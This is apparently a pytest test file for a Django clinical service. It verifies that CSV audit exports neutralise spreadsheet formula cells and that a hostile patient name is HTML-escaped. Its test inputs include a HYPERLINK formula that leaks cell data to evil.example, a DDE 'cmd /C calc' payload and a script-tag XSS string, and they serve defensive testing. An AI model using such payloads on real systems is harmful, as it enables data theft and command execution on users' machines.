"""The service's CSV exports (the audit trail, per patient and whole) go through the exporters'
formula-cell rule (regimens.exporters.tabular.csv_cell, OWASP CSV injection): a cell that a
spreadsheet would run (= + - @ tab CR first) gets a leading apostrophe; nothing else changes. A
hostile display name and free text typed by staff are the inputs; the file is read back with the
csv module, as a spreadsheet would split it."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from regimens.web.clinic import audit
from regimens.web.clinic.models import Patient

pytestmark = pytest.mark.django_db
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")<script>alert(1)</script>'
REASON = "=cmd|' /C calc'!A0"


def _cells(resp) -> list[dict]:
    assert resp.status_code == 200 and resp["Content-Type"] == "text/csv; charset=utf-8"
    assert resp["Content-Disposition"].startswith("attachment;")
    assert resp["X-Content-Type-Options"] == "nosniff"
    return list(csv.DictReader(io.StringIO(resp.content.decode("utf-8"), newline="")))


def test_audit_csv_neutralises_formula_cells_from_a_hostile_patient_and_staff_text(as_user, make_plan, users):
    c = as_user("ph1")
    assert c.post(reverse("patient_new"), {"display_name": NAME, "record_number": "@SUM(1+1)"}).status_code == 302
    p = Patient.objects.get(display_name=NAME)
    tp = make_plan(p)
    data = {"kind": "hold", "cycle": "maintenance.c1", "selector": "maintenance.c1:8", "reason": REASON,
            "note": "-2+3", "base": "1", "action": "preview", "bsa_formula": ""}
    pv = c.post(reverse("plan_change", args=[tp.id]), data)
    data.update(action="save", previewed=pv.context["form"]["previewed"].value())
    assert c.post(reverse("plan_change", args=[tp.id]), data).status_code == 302
    # the other starts, through the one writer every view uses (a form strips tab and CR)
    for start in ("+1", "@A1", "\t=1", "\r=1", "-1"):
        audit.record(users["ph1"], "plan.view.timeline", "viewed", patient=p, reason=start + "+A2")

    for url in (reverse("patient_audit_export", args=[p.id, "csv"]), reverse("audit_export", args=["csv"])):
        rows = _cells(as_user("admin").get(url) if "patients" not in url else c.get(url))
        assert rows
        for row in rows:
            for k, v in row.items():
                assert not v.startswith(FORMULA_START), (k, v)
        reasons = [r["reason"] for r in rows if r["patient"] == str(p.id)]
        assert "'" + REASON in reasons  # neutralised, otherwise unchanged
        for start in ("+1", "@A1", "\t=1", "\r=1", "-1"):
            assert "'" + start + "+A2" in reasons
        change = next(r for r in rows if r["action"] == "plan.change")
        assert change["what"].endswith(f"({REASON}) — -2+3")  # inside a cell: left as typed
        created = next(r for r in rows if r["action"] == "patient.create")
        assert json.loads(created["after"]) == {"display_name": NAME, "record_number": "@SUM(1+1)"}


def test_the_hostile_name_is_escaped_on_the_pages_that_show_it(as_user):
    c = as_user("ph1")
    c.post(reverse("patient_new"), {"display_name": NAME, "record_number": ""})
    p = Patient.objects.get(display_name=NAME)
    for url in (reverse("patient", args=[p.id]), reverse("patients") + "?q=HYPERLINK", reverse("patient_audit", args=[p.id])):
        body = c.get(url).content.decode()
        assert "<script>alert(1)</script>" not in body and "&lt;script&gt;alert(1)&lt;/script&gt;" in body, url


def test_csv_table_quotes_a_row_with_a_carriage_return_and_leaves_others_as_dictwriter_writes_them():
    from regimens.exporters.tabular import csv_table

    rows = [{"a": "x\ry", "b": 1}, {"a": "plain", "b": 2}, {"a": "=1", "b": "line\nfeed"}]
    text = csv_table(["a", "b"], rows)
    assert text == 'a,b\n"x\ry","1"\nplain,2\n\'=1,"line\nfeed"\n'
    back = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["a"] for r in back] == ["x\ry", "plain", "'=1"] and back[2]["b"] == "line\nfeed"
